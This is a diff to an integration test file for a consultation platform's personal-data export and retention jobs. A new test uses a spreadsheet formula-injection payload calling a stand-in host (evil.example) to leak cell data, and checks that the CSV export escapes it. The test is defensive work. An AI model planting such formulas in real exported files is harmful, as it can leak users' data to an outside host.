@@ -1,16 +1,18 @@
+import { Role } from '@quorum/access';
+import { dataExportPath } from '@quorum/privacy';
 import { existsSync, mkdtempSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { Role } from '@quorum/identity';
 import sharp from 'sharp';
-import { dataExportPath } from '@quorum/privacy';
 import { JobName, JobQueue } from '@quorum/queue';
-import { CAST, createBudget, waitFor } from '../utils/budgets';
-import { createConsultation, insertProposals } from '../utils/consultation-factory';
-import { createUser, createUsers, FACTORY_PASSWORD, TestUser } from '../utils/factories';
+import { CAST, createBudget } from '../utils/budgets.factory';
+import { createConsultation, insertProposals } from '../utils/consultations.factory';
+import { createUser, createUsers, FACTORY_PASSWORD, TestUser } from '../utils/users.factory';
 import { CAPITOLE, seedCommune } from '../utils/reports.factory';
 import { startTestApi, TestApi } from '../utils/test-api';
 import { startTestWorker, TestWorker } from '../utils/test-worker';
+import { waitFor } from '../utils/wait-for';
+import { zipEntries } from '../utils/zip-entries';
 
 const REQUEST = `mutation { requestMyData { id status downloadPath } }`;
 const LATEST = `{ myDataExport { id status readyAt expiresAt downloadPath } }`;
@@ -165,6 +167,31 @@ describe('right of access (requestMyData) and retention', () => {
     expect(await api.db.query(`SELECT id FROM data_exports WHERE user_id = $1`, [aurelie.id])).toEqual([]);
   });
 
+  it('neutralises spreadsheet formulas in the archive’s CSV files, and keeps the JSON as written (issue #14.4)', async () => {
+    const [resident] = await createUsers(api, 1, { verified: true, displayName: '@SUM(1+1)' });
+    const c = await createConsultation(api, staff.token, { open: 'SUPPORTS' });
+    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Voir")';
+    await insertProposals(api, c.id, [resident.id], 1, { title: () => formula, body: () => '-2+3' });
+    const as = api.gql.as(resident.token);
+    await as.ok(REQUEST);
+    const ready = await waitFor(
+      async () => {
+        const latest: { status: string; downloadPath: string } = (await as.ok(LATEST)).myDataExport;
+        return latest.status === 'READY' ? latest : undefined;
+      },
+      20_000,
+      'archive built',
+    );
+    const entries = zipEntries(Buffer.from(await (await download(ready.downloadPath, resident.token)).arrayBuffer()));
+    const csv = entries.get('proposals/proposals.csv')!.toString('utf8');
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Voir"")"`);
+    expect(csv).toContain(`"'-2+3"`);
+    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
+    expect(entries.get('identity/account.csv')!.toString('utf8')).toContain(`"'@SUM(1+1)"`);
+    const json = JSON.parse(entries.get('proposals/proposals.json')!.toString('utf8'));
+    expect(json[0]).toMatchObject({ title: formula, body: '-2+3' });
+  });
+
   it('gives up a request left pending for an hour (its job failed for good) instead of blocking the resident', async () => {
     const [resident] = await createUsers(api, 1);
     const [{ id: stuck }] = await api.db.query(
@@ -236,6 +263,28 @@ describe('right of access (requestMyData) and retention', () => {
     expect(await served(recent)).toBe(200);
     expect(await served(attached)).toBe(200);
     expect(existsSync(file(recent)) && existsSync(file(attached))).toBe(true);
+  });
+
+  it('retention deletes the website sessions that expired, and keeps the live ones', async () => {
+    const resident = await createUser(api);
+    const insert = async (tokenHash: string, expiresIn: string) =>
+      (
+        await api.db.query(
+          `INSERT INTO sessions (token_hash, user_id, last_seen_at, expires_at)
+           VALUES ($1, $2, now(), now() + $3::interval) RETURNING id`,
+          [tokenHash, resident.id, expiresIn],
+        )
+      )[0].id as string;
+    const expired = await insert('a'.repeat(64), '-1 minute');
+    const live = await insert('b'.repeat(64), '1 hour');
+
+    await worker.app.get(JobQueue).enqueue(JobName.PURGE_EXPIRED_DATA, {}, { jobId: 'purge-sessions-test' });
+    const left = async () =>
+      (await api.db.query(`SELECT id FROM sessions WHERE user_id = $1`, [resident.id])).map(
+        (row: { id: string }) => row.id,
+      );
+    await waitFor(async () => ((await left()).includes(expired) ? undefined : true), 20_000, 'expired session purged');
+    expect(await left()).toEqual([live]);
   });
 
   it('schedules the retention job as a repeatable job when the worker boots', async () => {
